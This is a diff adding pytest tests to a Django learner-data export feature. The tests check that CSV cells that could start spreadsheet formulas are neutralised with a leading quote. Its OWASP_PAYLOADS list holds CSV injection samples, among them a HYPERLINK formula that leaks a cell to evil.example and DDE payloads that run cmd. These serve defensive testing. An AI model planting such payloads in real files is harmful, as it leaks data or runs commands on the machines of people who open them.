@@ -6,7 +6,10 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import zipfile
+from decimal import Decimal
+from pathlib import Path
 
 import jsonschema
 import pytest
@@ -15,7 +18,9 @@ from django.urls import reverse
 
 from careerpath.accounts.export import export_json_schema
 from careerpath.accounts.ownership import LEARNER_OWNED
-from roadmap.models import ProgressEvent
+from careerpath.spreadsheet import csv_safe_cell
+from portfolio.models import JobApplication
+from roadmap.models import MilestoneProgress, ProgressEvent
 from tests.accounts.learner_data import full_learner_data
 from tests.roadmap.factories import build_roadmap
 from tests.test_layout import assert_shared_layout, parse  # noqa: E402
@@ -209,3 +214,89 @@ def test_data_page_links_both_downloads_and_keeps_its_query_count(
 def test_data_page_shares_the_layout(client):
     client.force_login(full_learner_data().learner)
     assert_shared_layout(parse(client.get(DATA_URL).content.decode()), logged_in=True)
+
+
+# --- CSV injection (OWASP): no cell a spreadsheet would run as a formula ----------------------
+
+OWASP_PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",  # after leading whitespace, which some spreadsheets trim on import
+    "\n=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_csv_safe_cell_puts_a_quote_before_text_that_could_start_a_formula(payload):
+    assert csv_safe_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        (Decimal("-3.50"), "-3.50"),  # a stored number stays a number
+        (-5, "-5"),
+        ("-5", "'-5"),  # text, even when it looks like a number (OWASP: prefix every "-")
+        ("Plain text, with = and - inside", "Plain text, with = and - inside"),
+        ("'already quoted", "'already quoted"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_csv_safe_cell_leaves_numbers_and_harmless_text_alone(value, cell):
+    assert csv_safe_cell(value) == cell
+
+
+def test_csv_export_neutralises_formulas_and_the_json_export_keeps_them_exact(client):
+    # given: a learner whose note and application hold spreadsheet formulas
+    data = full_learner_data()
+    note, company = OWASP_PAYLOADS[0], OWASP_PAYLOADS[1]
+    MilestoneProgress.objects.filter(learner=data.learner).update(notes=note)
+    JobApplication.objects.filter(learner=data.learner).update(
+        company=company, notes="; =1+1", next_action="@SUM(1+1)"
+    )
+    client.force_login(data.learner)
+
+    # when
+    archive = zipfile.ZipFile(io.BytesIO(body(client.get(ZIP_URL))))
+    document = json.loads(body(client.get(JSON_URL)))
+
+    # then: in the CSV each is text behind a quote, every cell quoted, numbers unchanged
+    def rows(name):
+        return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode())))
+
+    assert rows("milestone_progress")[0]["notes"] == "'" + note
+    application = rows("job_applications")[0]
+    assert application["company"] == "'" + company
+    assert application["next_action"] == "'@SUM(1+1)"
+    assert application["notes"] == "; =1+1"  # one cell: a semicolon cannot split it
+    assert archive.read("job_applications.csv").decode().startswith('"id","')  # all quoted
+    for name in [t.name for t in LEARNER_OWNED]:
+        for row in rows(name):
+            for cell in row.values():
+                assert not cell.lstrip().startswith(("=", "+", "-", "@")), (name, cell)
+    assert rows("credit_activities")[0]["credits"] == "2.00"
+    # and the JSON export is exact
+    assert document["tables"]["milestone_progress"][0]["notes"] == note
+    assert document["tables"]["job_applications"][0]["company"] == company
+
+
+def test_every_csv_the_project_writes_goes_through_the_safe_writer():
+    # A new csv.writer elsewhere would write learners' text unneutralised.
+    root = Path(__file__).resolve().parents[2]
+    sources = [
+        p
+        for folder in ("careerpath", "roadmap", "certifications", "portfolio")
+        for p in (root / folder).rglob("*.py")
+    ]
+    writers = [
+        str(p.relative_to(root))
+        for p in sources
+        if re.search(r"\bcsv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
+    ]
+    assert writers == ["careerpath/spreadsheet.py"]
